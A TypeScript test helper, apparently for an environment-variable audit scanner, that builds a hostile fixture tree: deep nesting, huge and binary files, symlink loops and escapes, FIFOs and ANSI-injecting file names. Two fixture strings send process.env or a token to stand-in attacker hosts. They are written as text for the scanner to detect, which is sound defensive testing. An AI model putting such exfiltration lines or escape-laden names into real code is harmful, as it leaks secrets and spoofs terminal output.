// Builds the hostile fixture tree for a test run: a copy of fixtures/hostile/ in a temp folder,
// plus everything a fresh git clone must not carry (40 MB of generated code, binary files, raw
// control bytes, symlinks, FIFOs, file names holding ESC and newlines, unreadable paths).
//
// Nothing here runs fixture code. Generated files are plain text or bytes written with fs.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fixture } from '../helpers.js';

const MIB = 1024 * 1024;
/** The nesting depth the issue asks for. */
const DEPTH = 50_000;

/** A marker only the file outside the tree holds: if it shows up in any output, a link was followed. */
export const OUTSIDE_MARKER = 'OUTSIDE_TREE_MARKER_9c41e';

export interface HostileTree {
  /** the project folder to scan. */
  root: string;
  /** the temp folder holding root, the outside folder and anything else; remove it when done. */
  base: string;
  /** a folder next to the project, reached only through symlinks. */
  outside: string;
  /** true when a FIFO could be made (mkfifo exists). */
  fifo: boolean;
  /** true when running as root: mode 000 does not stop reading then. */
  root_user: boolean;
  /** true when the path longer than PATH_MAX could be made. */
  longPath: boolean;
  /** the hostile file names generated in ansi-inject/lib (relative to the package). */
  hostileNames: string[];
  /** files generated into deep-nesting/, relative to the package. */
  deepFiles: string[];
  cleanup(): void;
}

/** Deterministic bytes (xorshift32), so a failure is the same on every machine. */
export function prng(seed: number): () => number {
  let x = seed >>> 0 || 0x9e3779b9;
  return () => {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    return x;
  };
}

function write(file: string, content: string | Uint8Array): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
}

/** The deep-nesting sources: each wraps an env read in DEPTH levels of one construct. */
export function deepSources(depth = DEPTH): Record<string, string> {
  const r = (s: string) => s.repeat(depth);
  return {
    'parens.js': `module.exports = ${r('(')}process.env.DEEP_PARENS${r(')')};\n`,
    'arrays.js': `module.exports = ${r('[')}process.env.DEEP_ARRAYS${r(']')};\n`,
    'objects.js': `module.exports = ${r('{a:')}process.env.DEEP_OBJECTS${r('}')};\n`,
    'functions.js': `${r('function f(){')}return process.env.DEEP_FUNCTIONS;${r('}')}\n`,
    'arrows.js': `module.exports = ${r('()=>')}process.env.DEEP_ARROWS;\n`,
    'calls.js': `module.exports = ${r('f(')}process.env.DEEP_CALLS${r(')')};\n`,
    'members.js': `module.exports = process.env.DEEP_MEMBERS${r('.a')};\n`,
    'nested-calls.js': `module.exports = ${r('(function(){return ')}process.env.DEEP_NESTED_CALLS${r('})()')};\n`,
    'method-chain.js': `module.exports = require('https').request(process.env.DEEP_CHAIN)${r('.on(x)')};\n`,
    'binary.js': `module.exports = process.env.DEEP_BINARY${r(' + 1')};\n`,
    'key-concat.js': `module.exports = process.env['DEEP_KEY'${r(" + '_'")}];\n`,
    'unary.js': `module.exports = ${r('!')}process.env.DEEP_UNARY;\n`,
    'ifs.js': `${r('if (x) ')}module.exports = process.env.DEEP_IFS;\n`,
    'blocks.js': `${r('{')}module.exports = process.env.DEEP_BLOCKS;${r('}')}\n`,
    'templates.js': `module.exports = ${r('`${')}process.env.DEEP_TEMPLATES${r('}`')};\n`,
    'ternary.js': `module.exports = ${r('x ? ')}process.env.DEEP_TERNARY${r(' : y')};\n`,
    'assign.js': `${r('a = ')}process.env.DEEP_ASSIGN;\n`,
    'new.js': `module.exports = ${r('new ')}F(process.env.DEEP_NEW);\n`,
    'destructure.js': `const ${r('{a:')}b${r('}')} = process.env.DEEP_DESTRUCTURE;\n`,
  };
}

/** ~30 MB of ordinary lines (over the default 20 MB limit). */
function hugeFile(): Buffer {
  const parts: string[] = [];
  let size = 0;
  for (let i = 0; size < 30 * MIB; i++) {
    const line = `exports.f${i} = function () { return process.env.HUGE_${i % 50} + ${i}; };\n`;
    parts.push(line);
    size += line.length;
  }
  return Buffer.from(parts.join(''));
}

/**
 * A 10 MB minified bundle on one line, env reads and one exfiltration spread through it. Its
 * density is a real bundle's (~25 bytes of heap per byte of source once parsed, like webpack
 * output), so it is analysed on the big lane rather than running it out of memory.
 */
function oneLineBundle(): Buffer {
  const parts: string[] = ['!function(modules){var cache={};function __webpack_require__(id){return cache[id]||(cache[id]={exports:{}})}for(var i=0;i<modules.length;i++)modules[i](__webpack_require__(i),__webpack_require__(i).exports,__webpack_require__)}(['];
  let size = parts[0].length;
  for (let i = 0; size < 10 * MIB; i++) {
    let chunk: string;
    if (i % 997 === 500) chunk = `function(module,exports){exports.settingsValue${i}=process.env.BUNDLE_TOKEN_${i % 7}}`;
    else if (i === 30_000) {
      chunk = 'function(module,exports,__webpack_require__){require("https").request({host:"collect.attacker.invalid",method:"POST"}).end(JSON.stringify(process.env))}';
    } else {
      chunk =
        `function(module,exports,__webpack_require__){"use strict";var formatterModule${i}=__webpack_require__(${i % 300});` +
        `exports.handleIncomingMessage${i}=function(event){return formatterModule${i}.format("component-${i} received: %s",event&&event.message)}}`;
    }
    if (i > 0) chunk = ',' + chunk;
    parts.push(chunk);
    size += chunk.length;
  }
  parts.push(']);');
  return Buffer.from(parts.join(''));
}

/**
 * A dense-bundle package in `dir`: index.js is the densest code there is, an array of 5 million
 * one-digit literals (10 MB) whose syntax tree needs ~470 MB, more than a scan worker's heap.
 * Not part of the main hostile tree: parsing it until the heap runs out costs seconds, so only the
 * test that needs it pays for it.
 */
export function writeDenseBundle(dir: string): void {
  write(path.join(dir, 'package.json'), '{"name":"dense-bundle","version":"1.0.0","main":"index.js"}\n');
  write(path.join(dir, 'index.js'), `module.exports=[${'1,'.repeat(5 * 1024 * 1024)}process.env.DENSE_TOKEN];\n`);
  write(path.join(dir, 'lib', 'ok.js'), 'module.exports = process.env.DENSE_PKG_OK_TOKEN;\n');
}

function binaryBytes(): Buffer {
  const next = prng(0xb1a7);
  const buf = Buffer.alloc(64 * 1024);
  for (let i = 0; i < buf.length; i++) buf[i] = next() & 0xff;
  // an ELF header, then random bytes (NULs among them)
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0]).copy(buf, 0);
  return buf;
}

function mostlyControl(): Buffer {
  const next = prng(0xc0c0);
  const buf = Buffer.alloc(4096);
  for (let i = 0; i < buf.length; i++) buf[i] = 1 + (next() % 8); // 0x01..0x08: no NUL, no whitespace
  buf.write('module.exports = process.env.CONTROL_TOKEN;\n', 0);
  return buf;
}

/** Hostile names for files in ansi-inject/lib: ESC, OSC, C1, bidi, newline, GitHub's own syntax. */
const HOSTILE_FILE_NAMES = [
  '\x1b[31mred\x1b[0m.js',
  'title\x1b]0;pwned\x07.js',
  'line\nbreak\r::error::forged.js',
  '\u202egnp.js',
  'c1\u009b2J.js',
  'a,b:c%0A::error::x.js',
  '\x1b[35mdir/inner.js',
];

export function buildHostileTree(): HostileTree {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'env-audit-hostile-'));
  const root = path.join(base, 'project');
  const outside = path.join(base, 'outside');
  fs.cpSync(fixture('hostile'), root, { recursive: true });
  const nm = path.join(root, 'node_modules');
  const pkg = (...p: string[]) => path.join(nm, ...p);

  // ---- outside the tree: a file with a marker, a package-like folder
  write(path.join(outside, 'outside-secret.js'), `module.exports = '${OUTSIDE_MARKER}' + process.env.${OUTSIDE_MARKER}_TOKEN;\n`);

  // ---- deep nesting
  const deep = deepSources();
  for (const [name, src] of Object.entries(deep)) write(pkg('deep-nesting', name), src);
  write(pkg('deep-nesting', 'index.js'), "module.exports = require('./parens.js');\n");

  // ---- big files
  write(pkg('huge-file', 'index.js'), hugeFile());
  write(pkg('huge-file', 'lib', 'small.js'), 'module.exports = process.env.HUGE_SMALL_TOKEN;\n');
  write(pkg('one-line-bundle', 'index.js'), oneLineBundle());

  // ---- binary and invalid UTF-8
  write(pkg('binary-index', 'index.js'), binaryBytes());
  write(pkg('binary-index', 'lib', 'mostly-control.js'), mostlyControl());
  const b = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));
  write(
    pkg('invalid-utf8', 'index.js'),
    b(
      "'use strict';\n// a comment with invalid bytes: ", [0xff, 0xfe, 0xc3, 0x28], '\n',
      // overlong '/', an encoded surrogate, a 5-byte form, a lone continuation byte
      "const s = '", [0xc0, 0xaf, 0x20, 0xed, 0xa0, 0x80, 0x20, 0xf8, 0x88, 0x80, 0x80, 0x80, 0x20, 0x80], "';\n",
      'module.exports = process.env.INVALID_UTF8_TOKEN + s;\n',
    ),
  );
  write(pkg('invalid-utf8', 'lib', 'ident.js'), b('var a', [0xff], ' = process.env.IDENT_TOKEN;\n'));
  write(pkg('invalid-utf8', 'lib', 'bom.js'), b([0xef, 0xbb, 0xbf], 'module.exports = process.env.BOM_TOKEN;\n'));
  write(pkg('invalid-utf8', 'lib', 'truncated.js'), b('module.exports = process.env.TRUNCATED_TOKEN; // ', [0xe2, 0x82]));
  write(pkg('invalid-utf8', 'lib', 'utf16.js'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('module.exports = process.env.UTF16_TOKEN;\n', 'utf16le')]));

  // ---- symlink loops
  write(pkg('symlink-loop', 'lib', 'real.js'), 'module.exports = process.env.LOOP_TOKEN;\n');
  fs.symlinkSync('.', pkg('symlink-loop', 'lib', 'loop'));
  fs.symlinkSync('b.js', pkg('symlink-loop', 'a.js'));
  fs.symlinkSync('a.js', pkg('symlink-loop', 'b.js'));
  fs.symlinkSync('self.js', pkg('symlink-loop', 'self.js'));
  fs.mkdirSync(pkg('symlink-loop', 'deep'));
  fs.symlinkSync('..', pkg('symlink-loop', 'deep', 'up'));
  fs.symlinkSync('lib', pkg('symlink-loop', 'index.js')); // a JS-named link to a folder

  // ---- symlinks out of the package and out of the tree
  const out = (target: string, name: string) => fs.symlinkSync(target, pkg('symlink-outside', name));
  out(path.join(outside, 'outside-secret.js'), 'index.js');
  out(outside, 'outside-dir');
  out('/', 'root-link');
  out('/etc', 'etc');
  out('/proc/self/environ', 'environ.js');
  out('/dev/zero', 'zero.js');
  out('..', 'node-modules-link');
  out('../..', 'project-link');
  out('../syntax-error/lib/token.js', 'sibling.js');
  write(pkg('symlink-outside', 'lib', 'own.js'), 'module.exports = process.env.OUTSIDE_PKG_OWN_TOKEN;\n');

  // ---- package-level links out of the project: only a package folder is followed
  write(path.join(outside, 'linked-pkg', 'package.json'), '{"name":"linked-pkg","version":"1.0.0","main":"index.js"}\n');
  write(path.join(outside, 'linked-pkg', 'index.js'), 'module.exports = process.env.LINKED_PKG_TOKEN;\n');
  fs.symlinkSync(path.join(outside, 'linked-pkg'), pkg('linked-pkg'));
  fs.symlinkSync('/', pkg('link-to-root'));
  fs.symlinkSync('/etc', pkg('link-to-etc'));
  fs.symlinkSync(base, pkg('link-to-parent')); // holds the project itself and the outside folder

  // ---- unreadable paths
  const ur = (...p: string[]) => pkg('unreadable-files', ...p);
  write(ur('index.js'), 'module.exports = process.env.UNREADABLE_PKG_TOKEN;\n');
  // a folder named like a file: walked as a folder (require('./x.js') would load x.js/index.js)
  write(ur('x.js', 'index.js'), 'module.exports = process.env.DIR_NAMED_JS_TOKEN;\n');
  // a FIFO named like a file: open(2) for reading blocks until a writer comes, which never happens
  const fifo = spawnSync('mkfifo', [ur('y.js')]).status === 0;
  fs.symlinkSync('y.js', ur('w.js'));
  fs.symlinkSync('does-not-exist.js', ur('z.js'));
  // mode 000: unreadable for anyone but root (CI runs as root, so these are read there)
  write(ur('secret.js'), 'module.exports = process.env.MODE_000_TOKEN;\n');
  fs.chmodSync(ur('secret.js'), 0);
  write(ur('locked', 'inner.js'), 'module.exports = process.env.LOCKED_DIR_TOKEN;\n');
  fs.chmodSync(ur('locked'), 0);
  // a path longer than PATH_MAX (4096): every syscall on it fails with ENAMETOOLONG, root or not
  const longPath = makeLongPath(ur('long'), 'module.exports = process.env.LONG_PATH_TOKEN;\n');

  // ---- files that must never be read whole: reading a FIFO blocks, /dev/zero never ends
  // (a symlink to a device can come from git; npm itself never makes either)
  write(pkg('special-files', 'index.js'), 'module.exports = process.env.SPECIAL_PKG_TOKEN;\n');
  write(pkg('special-files', 'lib', 'x.js'), 'module.exports = process.env.SPECIAL_LIB_TOKEN;\n');
  fs.symlinkSync('/dev/zero', pkg('special-files', 'lib', 'package.json'));
  if (fifo) spawnSync('mkfifo', [pkg('special-files', 'binding.gyp')]);
  write(pkg('zero-package-json', 'index.js'), 'module.exports = process.env.ZERO_PKG_TOKEN;\n');
  fs.symlinkSync('/dev/zero', pkg('zero-package-json', 'package.json'));
  if (fifo) {
    write(pkg('fifo-package-json', 'index.js'), 'module.exports = process.env.FIFO_PKG_TOKEN;\n');
    spawnSync('mkfifo', [pkg('fifo-package-json', 'package.json')]);
  }
  fs.symlinkSync('/dev/zero', path.join(nm, '.package-lock.json'));

  // ---- hostile file names and raw control bytes
  const hostileNames: string[] = [];
  for (const name of HOSTILE_FILE_NAMES) {
    write(pkg('ansi-inject', 'lib', ...name.split('/')), `module.exports = process.env.HOSTILE_NAME_TOKEN_${hostileNames.length};\n`);
    hostileNames.push(`lib/${name}`);
  }
  // raw bytes on the line of a finding, so the snippet carries them
  write(
    pkg('ansi-inject', 'lib', 'raw.js'),
    "const t = process.env.RAW_TOKEN; /* \x1b[2J\x1b]0;pwned\x07 \r\x1b[1A\x1b[2K \u202e \u0085 \u009b2J \u2028 */ require('https').get('https://attacker.invalid/' + t); // \x1b[31m\n",
  );

  return {
    root,
    base,
    outside,
    fifo,
    root_user: process.getuid?.() === 0,
    longPath,
    hostileNames,
    deepFiles: Object.keys(deep),
    cleanup() {
      // mode 000 folders and the over-long path defeat fs.rmSync; rm -rf works by file descriptor
      try {
        fs.chmodSync(ur('locked'), 0o755);
      } catch {
        /* gone already */
      }
      spawnSync('rm', ['-rf', base]);
      if (fs.existsSync(base)) fs.rmSync(base, { recursive: true, force: true });
    },
  };
}

/**
 * Make `dir/<255 x a>/<255 x a>/…/deep.js` with a total length over PATH_MAX, by creating one level
 * at a time relative to the previous one (an absolute path that long cannot be passed to mkdir).
 */
function makeLongPath(dir: string, content: string): boolean {
  fs.mkdirSync(dir, { recursive: true });
  // In a child process, so this test's own cwd never changes: chdir one level at a time, relative.
  const script = `
    const fs = require('fs');
    const seg = 'a'.repeat(250);
    process.chdir(process.argv[1]);
    for (let i = 0; i < Math.ceil(4200 / (seg.length + 1)); i++) { fs.mkdirSync(seg); process.chdir(seg); }
    fs.writeFileSync('deep.js', process.argv[2]);`;
  return spawnSync(process.execPath, ['-e', script, dir, content]).status === 0;
}
